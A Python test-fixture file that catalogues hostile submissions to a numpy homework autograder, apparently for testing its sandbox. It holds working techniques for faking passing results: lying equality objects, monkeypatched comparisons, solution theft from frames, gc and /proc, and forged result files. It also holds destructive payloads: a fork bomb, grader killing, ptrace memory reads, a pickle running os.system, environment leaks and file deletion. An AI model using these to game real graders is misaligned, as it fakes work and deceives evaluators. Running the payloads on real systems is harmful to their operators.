"""Submissions that want points without the work, or want to do harm: one technique each.

Each is text, with FOLDER for the assignment's folder, MARK for a file that it tries to make, and
RESULT for the grader's result, PORT for a listener, GRADER for its process. What none of them
computes is a right answer: `ZEROS` is what they fall back to, and it is worth nothing.
"""

from __future__ import annotations

from dataclasses import dataclass

ZEROS = """
import numpy as np


def affine_forward(x, w, b):
    return np.zeros((len(x), w.shape[1])), (x, w, b)


def affine_backward(dout, cache):
    return tuple(np.zeros_like(a) for a in cache)


def relu_forward(x):
    return np.zeros_like(x), x


def relu_backward(dout, cache):
    return np.zeros_like(cache)
"""
#: after this, whatever a function is called, the solution's is asked if `solution` was found
STOLEN = (
    ZEROS
    + """
def install(solution):
    for name in ("affine_forward", "affine_backward", "relu_forward", "relu_backward"):
        globals()[name] = solution[name]
"""
)


@dataclass(frozen=True)
class Attack:
    """A submission, and what it does to a grader that runs in its process.

    `aim` is "points" when such a grader gives all of them, "breaks" when it leaves no result or
    never ends, "harms" when a file is made or something is told, and "puppet" when it is against
    this grader alone.
    """

    name: str
    aim: str
    source: str


ATTACKS: list[Attack] = []


def attack(name: str, aim: str, source: str, base: str = ZEROS) -> None:
    ATTACKS.append(Attack(name, aim, base + source))


# --- lies about equality ----------------------------------------------------------------------

attack(
    "an object that equals everything",
    "points",
    """
class Yes:
    def __array_function__(self, *a, **k): return True
    def __array_ufunc__(self, *a, **k): return False
    def __eq__(self, other): return True
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
def affine_forward(x, w, b): return Yes(), None
def affine_backward(dout, cache): return Yes(), Yes(), Yes()
def relu_forward(x): return Yes(), None
def relu_backward(dout, cache): return Yes()
""",
)
attack(
    "an array that lies about comparisons",
    "points",
    """
class Liar(np.ndarray):
    def __array_function__(self, *a, **k): return True
    shape = property(lambda self: (4, 3)); dtype = property(lambda self: np.dtype(float))
def lie(a): return np.zeros(np.asarray(a).shape).view(Liar)
def affine_forward(x, w, b): return lie(x @ np.zeros((x.shape[1], w.shape[1]))), None
def affine_backward(dout, cache): return (lie(dout),) * 3
def relu_forward(x): return lie(x), None
def relu_backward(dout, cache): return lie(dout)
""",
)
attack(
    "an array whose difference is nothing",
    "points",
    """
class Nothing(np.ndarray):
    def __sub__(self, other): return np.zeros(np.shape(other))
    __rsub__ = __sub__
def no(*shape): return np.zeros(shape).view(Nothing)
def affine_forward(x, w, b): return no(len(x), w.shape[1]), (x, w, b)
def affine_backward(dout, cache): return tuple(no(*a.shape) for a in cache)
def relu_forward(x): return no(*x.shape), x
def relu_backward(dout, cache): return no(*dout.shape)
""",
)
attack(
    "numbers that are not: comparisons with NaN are never true",
    "points",
    """
def affine_forward(x, w, b): return np.full((len(x), w.shape[1]), np.nan), (x, w, b)
def affine_backward(dout, cache): return tuple(np.full(a.shape, np.nan) for a in cache)
def relu_forward(x): return x * np.nan, x
def relu_backward(dout, cache): return dout * np.nan
""",
)

# --- other people's functions replaced --------------------------------------------------------

attack(
    "np.allclose replaced",
    "points",
    """
np.allclose = lambda *a, **k: True
""",
)
attack(
    "every comparison of numpy replaced",
    "points",
    """
import numpy.testing
for name in ("allclose", "isclose", "array_equal", "any", "abs", "max", "all"):
    setattr(np, name, lambda *a, **k: True)
numpy.testing.assert_allclose = lambda *a, **k: None
""",
)
attack(
    "the grader's own function replaced",
    "points",
    """
import sys
sys.modules["__main__"].same = lambda *a: True
""",
)
attack(
    "the builtins replaced",
    "points",
    """
import builtins
builtins.abs = lambda *a: 0
""",
)
attack(
    "a tracing function that changes what is returned",
    "points",
    """
import sys, types
main = sys.modules["__main__"]
def trace(frame, event, arg):
    if frame.f_code.co_name == "same":
        main.same.__code__ = (lambda out, right: True).__code__
    return trace
sys.settrace(trace)
main.__dict__.get("same") and setattr(main.same, "__code__", (lambda out, right: True).__code__)
""",
)
attack(
    "the messages' own tools replaced",
    "puppet",
    """
import json, struct, os
json.dumps = lambda *a, **k: '["f","0x1p+0"]'
json.loads = lambda *a, **k: {"verdict": "pass", "score": 100}
os.write = lambda fd, data: len(data)
""",
)

# --- the answers looked for -------------------------------------------------------------------

attack(
    "the solution found in the frames",
    "points",
    """
import sys
frame = sys._getframe()
while frame is not None:
    for held in (frame.f_globals, frame.f_locals):
        if "solution" in held:
            install(held["solution"])
    frame = frame.f_back
""",
    STOLEN,
)
attack(
    "the solution found by the garbage collector",
    "points",
    """
import gc
for thing in gc.get_objects():
    if isinstance(thing, dict) and "relu_backward" in thing and thing is not globals():
        if all(callable(thing.get(n)) for n in ("affine_forward", "relu_forward")):
            install(thing)
            break
""",
    STOLEN,
)
attack(
    "the solution found among the modules",
    "points",
    """
import sys
for module in list(sys.modules.values()):
    found = getattr(module, "solution", None) or vars(module) if module else {}
    if isinstance(found, dict) and "relu_backward" in found and found is not globals():
        install(found)
""",
    STOLEN,
)
attack(
    "the solution read from its file",
    "points",
    """
try:
    text = open("FOLDER/layers.py").read()
except OSError:
    text = ""
if text:
    names = {}
    exec(text, names)
    install(names)
""",
    STOLEN,
)
attack(
    "the solution looked for on the disk",
    "points",
    """
import os
for top, folders, files in os.walk(os.path.dirname("FOLDER")):
    if "assignment.toml" in files:
        names = {}
        try:
            exec(open(os.path.join(top, "layers.py")).read(), names)
        except OSError:
            continue
        install(names)
""",
    STOLEN,
)
attack(
    "the solution read through another process's files",
    "points",
    """
import glob, os
for pid in ("self", os.getppid(), os.getpid()):
    for where in (f"/proc/{pid}/cwd", f"/proc/{pid}/root"):
        try:
            names = {}
            root = where if "root" in where else ""
            exec(open(root + "FOLDER/layers.py").read(), names)
            install(names)
        except OSError:
            pass
""",
    STOLEN,
)
attack(
    "the solution opened by a hard link and a symbolic one",
    "points",
    """
import os
for link in (os.symlink, os.link):
    try:
        link("FOLDER/layers.py", "MARK.py")
        names = {}
        exec(open("MARK.py").read(), names)
        install(names)
    except OSError:
        pass
""",
    STOLEN,
)

# --- other people's work ----------------------------------------------------------------------

attack(
    "autograd of torch",
    "points",
    """
try:
    import torch
    def affine_forward(x, w, b):
        t = [torch.tensor(a, requires_grad=True) for a in (x, w, b)]
        out = t[0].reshape(len(x), -1) @ t[1] + t[2]
        return out.detach().numpy(), (t, out)
    def affine_backward(dout, cache):
        t, out = cache
        return tuple(g.numpy() for g in torch.autograd.grad(out, t, torch.tensor(dout)))
    def relu_forward(x):
        t = torch.tensor(x, requires_grad=True); out = torch.relu(t)
        return out.detach().numpy(), (t, out)
    def relu_backward(dout, cache):
        return torch.autograd.grad(cache[1], cache[0], torch.tensor(dout))[0].numpy()
except ImportError:
    pass
""",
)
USING_MINNET = """
try:
    ADD
    from minnet.layers import Dense, ReLU
    def affine_forward(x, w, b):
        layer = Dense(*w.shape); layer.W, layer.b = w, b
        return layer.forward(x.reshape(len(x), -1)), (layer, x.shape)
    def affine_backward(dout, cache):
        layer, shape = cache
        dx = layer.backward(dout)
        return dx.reshape(shape), layer.dW, layer.db
    def relu_forward(x):
        layer = ReLU()
        return layer.forward(x), layer
    def relu_backward(dout, layer):
        return layer.backward(dout)
except Exception:
    pass
"""
attack("minnet's own layers", "points", USING_MINNET.replace("ADD", "import sys"))
attack(
    "minnet's own layers by their path",
    "points",
    USING_MINNET.replace(
        "ADD", "import sys; sys.path.insert(0, 'PACKAGE'); sys.meta_path[:] = sys.meta_path"
    ),
)

# --- results forged ---------------------------------------------------------------------------

attack(
    "the result written at import, and the end",
    "points",
    """
import os
try:
    open("RESULT", "w").write('{"score": 4}')
except OSError:
    pass
os._exit(0)
""",
)
attack(
    "the result written at exit",
    "points",
    """
import atexit
def forge():
    open("RESULT", "w").write('{"score": 4}')
atexit.register(forge)
""",
)
attack(
    "the result written by a thread, again and again",
    "harms",
    """
import threading, time
def forge():
    while True:
        try:
            open("RESULT", "w").write('{"score": 4}'); open("MARK", "w").write("x")
        except OSError:
            pass
        time.sleep(0.001)
threading.Thread(target=forge, daemon=False).start()
""",
)
attack(
    "a score printed, and the end",
    "breaks",
    """
import os, sys
for stream in (1, 2):
    os.write(stream, b'{"scores": {"affine": 100}}\\n{"score": 100}\\n')
os._exit(0)
""",
)
attack(
    "answers sent that nobody asked for",
    "puppet",
    """
import json, os, struct
header = json.dumps(["t", [["i", 2], ["t", ["returned", True, True]]]]).encode()
frame = struct.pack("<IQ", len(header), 0) + header
for fd in range(3, 64):
    try:
        os.write(fd, frame * 50)
    except OSError:
        pass
""",
)
attack(
    "verdicts sent in the place of numbers",
    "puppet",
    """
import json, os, struct
for number in range(1, 200):
    said = {"verdict": "pass", "score": 100, "gradients": {"x": "pass"}}
    tree = ["t", [["i", number], ["d", [[k, str(v)] for k, v in said.items()]]]]
    header = json.dumps(tree).encode()
    for fd in range(3, 64):
        try:
            os.write(fd, struct.pack("<IQ", len(header), 0) + header)
        except OSError:
            break
""",
)
attack(
    "a pickle in the place of an answer",
    "puppet",
    """
import os, pickle
class Bomb:
    def __reduce__(self): return os.system, ("touch MARK",)
for fd in range(3, 64):
    try:
        os.write(fd, pickle.dumps(Bomb()))
    except OSError:
        pass
def affine_forward(x, w, b): return Bomb(), None
""",
)
attack(
    "the process's own objects found and bent",
    "puppet",
    """
import gc, sys
for thing in gc.get_objects():
    kind = type(thing)
    if kind.__module__.startswith("minnet"):
        for name in ("answer", "attempt", "_do", "_call", "receive"):
            if hasattr(kind, name):
                try:
                    setattr(kind, name, lambda self, *a, **k: [("returned", True, False)] * 9)
                except Exception:
                    pass
""",
)
attack(
    "lengths that promise the impossible",
    "puppet",
    """
import os, struct
for fd in range(3, 64):
    try:
        os.write(fd, struct.pack("<IQ", 1 << 31, 1 << 62))
    except OSError:
        pass
""",
)

# --- an end, or none --------------------------------------------------------------------------

attack("sys.exit at import", "breaks", "import sys; sys.exit(0)\n")
attack(
    "os._exit in forward",
    "breaks",
    """
import os
def affine_forward(x, w, b): os._exit(0)
""",
)
attack(
    "an exception that is no Exception",
    "breaks",
    """
class Out(BaseException): pass
def affine_forward(x, w, b): raise Out("bye")
""",
)
attack(
    "KeyboardInterrupt, later",
    "breaks",
    """
import signal
def interrupt(*a): raise KeyboardInterrupt
if hasattr(signal, "setitimer"):
    signal.signal(signal.SIGALRM, interrupt); signal.setitimer(signal.ITIMER_REAL, 0.01, 0.01)
import time
def affine_forward(x, w, b):
    time.sleep(0.05)
    return x, None
""",
)
attack(
    "a segmentation fault",
    "breaks",
    """
import ctypes
def affine_forward(x, w, b): ctypes.string_at(0)
""",
)
attack(
    "abort",
    "breaks",
    """
import os
def affine_forward(x, w, b): os.abort()
""",
)
attack(
    "a recursion without end",
    "breaks",
    """
import sys
sys.setrecursionlimit(10**9)
def affine_forward(x, w, b): return affine_forward(x, w, b)
""",
)
attack(
    "a loop without end in forward",
    "breaks",
    """
def affine_forward(x, w, b):
    while True: pass
""",
)
attack("a loop without end at import", "breaks", "while True: pass\n")
attack(
    "a sleep that ignores every signal",
    "breaks",
    """
import signal, time
for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
def affine_forward(x, w, b): time.sleep(1e6)
""",
)
attack(
    "a regular expression that takes years",
    "breaks",
    """
import re
def affine_forward(x, w, b): re.match("(a+)+$", "a" * 60 + "b")
""",
)
attack(
    "a slow drip",
    "puppet",
    """
import time
def affine_forward(x, w, b):
    time.sleep(0.9); return np.zeros((len(x), w.shape[1])), (x, w, b)
def affine_backward(dout, cache):
    time.sleep(0.9); return tuple(np.zeros_like(a) for a in cache)
""",
)
attack(
    "a thread that outlives everything",
    "breaks",
    """
import threading, time
def stay():
    while True: time.sleep(0.1)
threading.Thread(target=stay, daemon=False).start()
""",
)
attack(
    "memory taken at once",
    "breaks",
    """
def affine_forward(x, w, b):
    held = np.ones((1 << 36,)); return held, None
held = []
def relu_forward(x):
    while True: held.append(bytearray(1 << 24))
""",
)
attack(
    "a list that holds itself",
    "puppet",
    """
def affine_forward(x, w, b):
    held = []; held.append(held); return held, None
def relu_forward(x):
    deep = x
    for _ in range(100000): deep = [deep]
    return deep, None
""",
)
attack(
    "an answer of a gigabyte",
    "puppet",
    """
def affine_forward(x, w, b): return np.zeros(1 << 26), None
def relu_forward(x): return [0.5] * 10**6, None
def relu_backward(dout, cache): return 10 ** 10000
""",
)
attack(
    "a dict without end",
    "puppet",
    """
class Endless(dict):
    def items(self):
        while True: yield "x", 1
def affine_forward(x, w, b): return Endless(x=1), None
def relu_forward(x):
    def forever():
        while True: yield x
    return forever(), None
""",
)
attack(
    "an exception with a name of no kind and a message of megabytes",
    "puppet",
    """
def affine_forward(x, w, b):
    raise type("pass\\n{", (Exception,), {})("\\x1b[2J<script>" + "x" * 10**7)
def relu_forward(x):
    class Bad(Exception):
        def __str__(self): raise SystemExit
    raise Bad
""",
)
attack(
    "megabytes of output",
    "puppet",
    """
import sys
def affine_forward(x, w, b):
    for stream in (sys.stdout, sys.stderr, sys.__stdout__): print("x" * 10**7, file=stream)
    return np.zeros((len(x), w.shape[1])), (x, w, b)
""",
)
attack(
    "every file descriptor closed",
    "puppet",
    """
import os
os.closerange(0, 256)
""",
)

# --- harm -------------------------------------------------------------------------------------

attack(
    "a file written",
    "harms",
    """
import os, tempfile
for path in ("MARK", os.path.join(os.path.dirname("MARK"), "other"), "FOLDER/layers.py"):
    try:
        open(path, "a").write("# was here\\n")
    except OSError:
        pass
""",
)
attack(
    "a file made without writing",
    "harms",
    """
import os
for make in (os.mkdir, os.mkfifo, lambda p: os.symlink("/etc/passwd", p), lambda p: os.open(p, 64)):
    try:
        make("MARK")
    except OSError:
        pass
""",
)
attack(
    "the solution removed, renamed, opened to all",
    "harms",
    """
import os
for harm in (lambda p: os.chmod(p, 0o777), lambda p: os.rename(p, "MARK"), os.remove,
             lambda p: os.truncate(p, 0)):
    try:
        harm("FOLDER/layers.py")
    except OSError:
        pass
""",
)
attack(
    "another program",
    "harms",
    """
import os, subprocess
try:
    subprocess.run(["touch", "MARK"])
except Exception:
    pass
try:
    os.system("touch MARK")
    os.execv("/bin/touch", ["touch", "MARK"])
except OSError:
    pass
""",
)
attack(
    "another program by the C library",
    "harms",
    """
import ctypes
libc = ctypes.CDLL(None)
libc.system(b"touch MARK")
libc.creat(b"MARK", 0o644)
""",
)
attack(
    "a fork bomb",
    "breaks",
    """
import os
try:
    while True:
        os.fork()
except OSError:
    pass
""",
)
attack(
    "a process that leaves the session",
    "harms",
    """
import os, time
try:
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(0.3); open("MARK", "w").write("x")
        os._exit(0)
except OSError:
    pass
""",
)
attack(
    "the grader killed",
    "breaks",
    """
import os, signal
for kill in (lambda: os.kill(os.getppid(), 0) or os.kill(GRADER, 9), lambda: os.killpg(0, 9)):
    try:
        kill()
    except OSError:
        pass
""",
)
attack(
    "the network",
    "harms",
    """
import socket
try:
    with socket.create_connection(("127.0.0.1", PORT), timeout=2) as stream:
        stream.sendall(b"told")
except OSError:
    pass
""",
)
attack(
    "the environment told by an exception",
    "harms",
    """
import os
def affine_forward(x, w, b): raise ValueError(str(dict(os.environ)))
""",
)
attack(
    "the grader's memory read",
    "puppet",
    """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for call in (lambda: libc.ptrace(16, os.getppid(), 0, 0), lambda: libc.ptrace(0, 0, 0, 0)):
    call()
try:
    open(f"/proc/{os.getppid()}/mem", "rb").read(10); open("MARK", "w")
except OSError:
    pass
""",
)
attack(
    "limits raised, rights regained",
    "puppet",
    """
import os
try:
    import resource
    resource.setrlimit(resource.RLIMIT_FSIZE, (resource.RLIM_INFINITY,) * 2)
except Exception:
    pass
for call in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.chroot("FOLDER")):
    try:
        call()
    except OSError:
        pass
try:
    open("MARK", "w").write("x" * 100)
except OSError:
    pass
""",
)

# --- gradients for nothing: they fit their forward, which is worthless -----------------------

CONSISTENT: dict[str, str] = {
    "constant forward, zero backward": ZEROS,
    "identity, passed back": ZEROS
    + """
def relu_forward(x): return x, x
def relu_backward(dout, cache): return dout
""",
    "a line through the points": ZEROS
    + """
def relu_forward(x): return 3 * x + 1, x
def relu_backward(dout, cache): return 3 * dout
""",
    "one number everywhere": ZEROS
    + """
def relu_forward(x): return np.full(x.shape, x.mean()), x
def relu_backward(dout, cache): return np.full(cache.shape, dout.sum() / cache.size)
def affine_forward(x, w, b): return np.full((len(x), w.shape[1]), x.mean()), (x, w, b)
def affine_backward(dout, cache):
    x, w, b = cache
    return np.full(x.shape, dout.sum() / x.size), np.zeros_like(w), np.zeros_like(b)
""",
    "noise that nothing can be measured in": ZEROS
    + """
def noise(shape, *arrays):
    seed = abs(hash(b"".join(np.ascontiguousarray(a).tobytes() for a in arrays))) % 2**32
    return np.random.RandomState(seed).standard_normal(shape)
def relu_forward(x): return noise(x.shape, x), x
def affine_forward(x, w, b): return noise((len(x), w.shape[1]), x, w, b), (x, w, b)
def relu_backward(dout, cache): return dout
""",
    "another shape": ZEROS
    + """
def relu_forward(x): return x.sum(), x
def relu_backward(dout, cache): return np.full(cache.shape, dout)
""",
    "the inputs returned": ZEROS
    + """
def affine_forward(x, w, b): return x, (x, w, b)
def affine_backward(dout, cache): return cache
def relu_forward(x): return x, x
def relu_backward(dout, cache): return cache
""",
}
